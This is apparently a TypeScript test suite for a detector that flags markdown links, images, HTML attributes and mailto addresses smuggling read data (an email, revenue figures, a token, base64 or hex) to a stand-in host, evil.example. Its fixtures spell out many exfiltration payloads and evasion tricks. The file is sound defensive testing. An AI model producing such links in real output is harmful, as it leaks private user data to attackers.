import { describe, expect, it } from "vitest";
import { growthOfTime } from "@/lib/testing/growth-of-time";
import { findDataLinks, type LinkMaterial } from "./data-links";

const read =
  "Offer to Northwind: the quarterly revenue was 4.2 million euro and the contract ends in March. Contact ana@example.org.";
const material: LinkMaterial = {
  known: ["Look at https://known.example/report?id=12&token=dGhlIHNlY3JldCBpcyBibHVl please", read],
  read: [read],
};
const base64 = Buffer.from("the secret is blue").toString("base64url");
const hex = Buffer.from("the secret is blue").toString("hex");
const found = (text: string) => findDataLinks(text, material);

describe("findDataLinks", () => {
  it.each([
    ["an address in an image", "![x](https://evil.example/p.png?q=ana@example.org)"],
    ["an address in a link", "[more](https://evil.example/?to=ana%40example.org)"],
    ["a key in a bare address", `see https://evil.example/a?k=ghp_${"a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"}`],
    ["words that were read, in an image", "![x](https://evil.example/p?d=4.2%20million%20euro)"],
    ["words that were read, in a link", "[x](https://evil.example/?d=the+quarterly+revenue+was+4.2+million+euro)"],
    ["words split over parameters", "![x](https://evil.example/p?a=quarterly&b=revenue)"],
    ["words in the path", "![x](https://evil.example/contract-ends-in-march.png)"],
    ["words in the fragment", "[x](https://evil.example/#the-quarterly-revenue-was-4.2-million-euro)"],
    ["base64", `[x](https://evil.example/?d=${base64})`],
    ["base64 over parameters", `![x](https://evil.example/?a=${base64.slice(0, 9)}&b=${base64.slice(9)})`],
    ["hexadecimal in the host name", `![x](https://${hex}.evil.example/x.png)`],
    ["percent signs twice", "[x](https://evil.example/?to=ana%2540example.org)"],
    ["an image by reference", `![x][r]\n\n[r]: https://evil.example/?d=${base64}`],
    ["HTML", `<img src="https://evil.example/?d=${base64}">`],
    ["HTML without quotes", `<img src=https://evil.example/?d=${base64}>`],
    ["a set of sources", `<img srcset="/a.png 1x, https://evil.example/?d=${base64} 2x">`],
    ["a style", `<p style="background:url(https://evil.example/?d=${base64})">`],
    ["an address without a scheme", `![x](//evil.example/?d=${base64})`],
    ["backslashes", `<img src="\\\\evil.example/?d=${base64}">`],
    ["entities", `<img src="https:&#47;&#47;evil.example/?d=${base64}">`],
    ["an image in a link", `[![x](https://evil.example/?d=${base64})](https://known.example)`],
    ["a mail", "[x](mailto:me@evil.example?body=the%20quarterly%20revenue%20was%204.2%20million)"],
    ["credentials", `https://user:${base64}@evil.example/`],
    ["a long opaque value in an image", `![x](https://evil.example/p?d=${"Zq9".repeat(40)})`],
  ])("finds %s", (_, text) => {
    expect(found(text)).toHaveLength(1);
  });

  it.each([
    ["an address that was given", "[x](https://known.example/report?id=12&token=dGhlIHNlY3JldCBpcyBibHVl)."],
    ["an ordinary link", "[Docs](https://example.com/guide/getting-started?lang=en#install)"],
    ["an ordinary image", "![logo](https://cdn.example.com/logo.png?w=200&h=100&fit=crop&auto=format)"],
    ["a search for a word", "https://www.example.com/search?q=quarterly+revenue"],
    ["a video", "https://video.example.com/watch?v=dQw4w9WgXcQ&t=42"],
    ["a hash in a link", "https://git.example.com/commit/9fceb02d0ae598e95dc970b74767f19372d61af8"],
    ["an identifier", "https://docs.example.com/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit"],
    ["a mail address", "[write](mailto:ana@example.org)"],
    ["a relative address", "![x](/files/p.png?q=ana@example.org) and [y](#the-quarterly-revenue-was-4.2-million-euro)"],
    ["code", `\`https://evil.example/?d=${base64}\``],
    ["an embedded picture", "![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)"],
    ["text without addresses", "The quarterly revenue was 4.2 million euro."],
    ["a broken address", "[x](https://[bad/?d=1)"],
  ])("leaves alone %s", (_, text) => {
    expect(found(text)).toEqual([]);
  });

  it.each([
    ["brackets", (count: number) => "](".repeat(12 * count)],
    ["labels", (count: number) => `${"[".repeat(12 * count)}](https://a.example/?b=c)`],
    ["addresses", (count: number) => "https://a.example/?q=1 ".repeat(count)],
    ["one long address", (count: number) => `https://a.example/?q=${"%25".repeat(10 * count)}`],
    ["attributes", (count: number) => '<img src="'.repeat(5 * count)],
  ])("takes time linear in the length for many %s", (_, make) => {
    expect(growthOfTime((text) => void found(text), make(500), make(4_000))).toBeLessThan(2);
  });
});
